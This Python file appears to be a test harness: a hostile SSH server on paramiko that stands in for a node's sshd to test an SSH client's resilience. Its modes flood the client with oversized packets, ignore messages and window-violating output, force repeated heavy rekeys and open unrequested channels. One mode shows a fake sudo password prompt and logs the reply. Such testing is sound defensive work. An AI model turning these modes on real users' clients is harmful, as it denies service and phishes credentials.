"""An SSH server that does what no sshd does, in place of a node's own: `hostile_sshd.py HOW KEY`.

line      never ends the first line that it says
length    a packet of 1 GiB before anybody has logged in
ignored   messages that mean nothing, after the keys are agreed, as fast as a connection takes them
window    a command's output without heed to the room that the client has left
rekey     agrees on new keys again and again, by the largest group there is
requests  asks for channels and forwardings of the client's
count     a packet that announces four billion pairs and has none
asks      after the key, questions for whoever sits at the terminal
"""

from __future__ import annotations

import contextlib
import itertools
import os
import socket
import sys
import threading
import time

import paramiko
from paramiko import common, kex_gex

#: Messages that are made before the first of them is sent.
MANY = 2000
#: Bytes of output beyond any window.
MUCH = 1 << 30


class Anybody(paramiko.ServerInterface):
    """Lets everybody in, and says yes to everything."""

    def __init__(self, asks: bool) -> None:
        self.asks, self.asked = asks, threading.Event()
        self.channel: paramiko.Channel | None = None

    def get_allowed_auths(self, username: str) -> str:
        return "publickey,keyboard-interactive" if self.asks else "publickey"

    def check_auth_publickey(self, username: str, key: paramiko.PKey) -> int:
        return paramiko.AUTH_PARTIALLY_SUCCESSFUL if self.asks else paramiko.AUTH_SUCCESSFUL

    def check_auth_interactive(self, username: str, submethods: str) -> paramiko.InteractiveQuery:
        return paramiko.InteractiveQuery("\x1b]0;x\x07nodeready", "", "[sudo] password for root:")

    def check_auth_interactive_response(self, responses: list[str]) -> int:
        print("told", responses, flush=True)
        return paramiko.AUTH_SUCCESSFUL

    def check_channel_request(self, kind: str, chanid: int) -> int:
        return paramiko.OPEN_SUCCEEDED

    def check_channel_forward_agent_request(self, channel: paramiko.Channel) -> bool:
        print("agent", flush=True)
        return True

    def check_channel_exec_request(self, channel: paramiko.Channel, command: bytes) -> bool:
        self.channel = channel
        self.asked.set()
        return True


class Kept:
    """In place of a socket: keeps what is written."""

    def __init__(self) -> None:
        self.data = bytearray()

    def send(self, data: bytes) -> int:
        self.data += data
        return len(data)


def ignored(transport: paramiko.Transport) -> None:
    """Messages that mean nothing, many with one call, so that they come faster than read."""
    packets = transport.packetizer
    real, kept = packets._Packetizer__socket, Kept()
    message = paramiko.Message()
    message.add_byte(common.cMSG_IGNORE)
    message.add_string(b"")
    real.settimeout(None)
    with packets._Packetizer__write_lock:
        packets._Packetizer__socket = kept
        while True:
            for _ in range(MANY):
                packets.send_message(message)
            real.sendall(kept.data)
            kept.data.clear()


def window(server: Anybody, transport: paramiko.Transport) -> None:
    server.asked.wait()
    message = paramiko.Message()
    message.add_byte(common.cMSG_CHANNEL_DATA)
    message.add_int(server.channel.remote_chanid)
    message.add_string(b"A" * 32000)
    for _ in range(MUCH // 32000):
        transport._send_message(message)


class Largest(kex_gex.KexGexSHA256):
    """Offers one group: RFC 3526's, of 8192 bits."""

    P = int(
        "FFFFFFFFFFFFFFFFC90FDAA22168C234C4C6628B80DC1CD129024E088A67CC74020BBEA63B139B22514A08798E"
        "3404DDEF9519B3CD3A431B302B0A6DF25F14374FE1356D6D51C245E485B576625E7EC6F44C42E9A637ED6B0BFF"
        "5CB6F406B7EDEE386BFB5A899FA5AE9F24117C4B1FE649286651ECE45B3DC2007CB8A163BF0598DA48361C55D3"
        "9A69163FA8FD24CF5F83655D23DCA3AD961C62F356208552BB9ED529077096966D670C354E4ABC9804F1746C08"
        "CA18217C32905E462E36CE3BE39E772C180E86039B2783A2EC07A28FB5C55DF06F4C52C9DE2BCBF69558171839"
        "95497CEA956AE515D2261898FA051015728E5A8AAAC42DAD33170D04507A33A85521ABDF1CBA64ECFB850458DB"
        "EF0A8AEA71575D060C7DB3970F85A6E1E4C7ABF5AE8CDB0933D71E8C94E04A25619DCEE3D2261AD2EE6BF12FFA"
        "06D98A0864D87602733EC86A64521F2B18177B200CBBE117577A615D6C770988C0BAD946E208E24FA074E5AB31"
        "43DB5BFCE0FD108E4B82D120A92108011A723C12A787E6D788719A10BDBA5B2699C327186AF4E23C1A946834B6"
        "150BDA2583E9CA2AD44CE8DBBBC2DB04DE8EF92E8EFC141FBECAA6287C59474E6BC05D99B2964FA090C3A2233B"
        "A186515BE7ED1F612970CEE2D7AFB81BDD762170481CD0069127D5B05AA993B4EA988D8FDDC186FFB7DC90A6C0"
        "8F4DF435C93402849236C3FAB4D27C7026C1D4DCB2602646DEC9751E763DBA37BDF8FF9406AD9E530EE5DB382F"
        "413001AEB06A53ED9027D831179727B0865A8918DA3EDBEBCF9B14ED44CE6CBACED4BB1BDB7F1447E6CC254B33"
        "2051512BD7AF426FB8F401378CD2BF5983CA01C64B92ECF032EA15D1721D03F482D7CE6E74FEF6D55E702F4698"
        "0C82B5A84031900B1C9E59E7C97FBEC7E8F323A97A7E36CC88BE0F1D45B7FF585AC54BD407B22B4154AACC8F6D"
        "7EBF48E1D814CC5ED20F8037E0A79715EEF29BE32806A1D58BB7C5DA76F550AA3D8A1FBFF0EB19CCB1A313D55C"
        "DA56C9EC2EF29632387FE8D76E3C0468043E8F663F4860EE12BF2D5B0B7474D6E694F91E6DCC4024FFFFFFFFFF"
        "FFFFFF",
        16,
    )

    def _generate_x(self) -> None:
        # Its own part of the work is small.
        self.x = int.from_bytes(os.urandom(32), "big")

    def _parse_kexdh_gex_request(self, m: paramiko.Message) -> None:
        self.min_bits, self.preferred_bits, self.max_bits = m.get_int(), m.get_int(), m.get_int()
        self.g, self.p = 2, self.P
        message = paramiko.Message()
        message.add_byte(kex_gex.c_MSG_KEXDH_GEX_GROUP)
        message.add_mpint(self.p)
        message.add_mpint(self.g)
        self.transport._send_message(message)
        self.transport._expect_packet(kex_gex._MSG_KEXDH_GEX_INIT)


class Server(paramiko.Transport):
    _kex_info = {**paramiko.Transport._kex_info, Largest.name: Largest}
    again = False

    def _parse_newkeys(self, m: paramiko.Message) -> None:
        super()._parse_newkeys(m)
        if self.again:
            self._send_kex_init()


def requests(transport: paramiko.Transport) -> None:
    for number in itertools.count():
        for kind in ("auth-agent@openssh.com", "x11", "forwarded-tcpip", "session"):
            message = paramiko.Message()
            message.add_byte(common.cMSG_CHANNEL_OPEN)
            message.add_string(kind)
            message.add_int(number & 0xFFFFFF)
            message.add_int(1 << 20)
            message.add_int(1 << 15)
            message.add_string("127.0.0.1")
            message.add_int(22)
            message.add_string("127.0.0.1")
            message.add_int(22)
            transport._send_message(message)


def serve(one: socket.socket, how: str, key: paramiko.PKey) -> None:
    if how in ("line", "length"):
        if how == "length":
            one.sendall(b"SSH-2.0-OpenSSH_9.6\r\n" + (1 << 30 | 4).to_bytes(4, "big"))
        while True:
            one.sendall(b"A" * (1 << 20))
    server, transport = Anybody(how == "asks"), Server(one)
    transport.add_server_key(key)
    if how == "rekey":
        transport._preferred_kex = (Largest.name,)
    transport.start_server(server=server)
    if how == "ignored":
        while not transport.is_authenticated():
            time.sleep(0.01)
        ignored(transport)
    elif how == "window":
        window(server, transport)
    elif how == "rekey":
        server.asked.wait()
        transport.again = True
        transport._send_kex_init()
    elif how == "count":
        message = paramiko.Message()
        message.add_byte(common.cMSG_EXT_INFO)
        message.add_int((1 << 32) - 1)
        server.asked.wait()
        transport._send_message(message)
    elif how == "requests":
        server.asked.wait()
        requests(transport)
    transport.join()


def main(how: str, path: str) -> None:
    key = paramiko.Ed25519Key.from_private_key_file(path)
    listener = socket.create_server(("", 22))

    def take(one: socket.socket) -> None:
        with contextlib.suppress(OSError, EOFError, paramiko.SSHException):
            serve(one, how, key)

    print("listening", flush=True)
    while True:
        one, _ = listener.accept()
        threading.Thread(target=take, args=(one,), daemon=True).start()


if __name__ == "__main__":
    main(*sys.argv[1:])
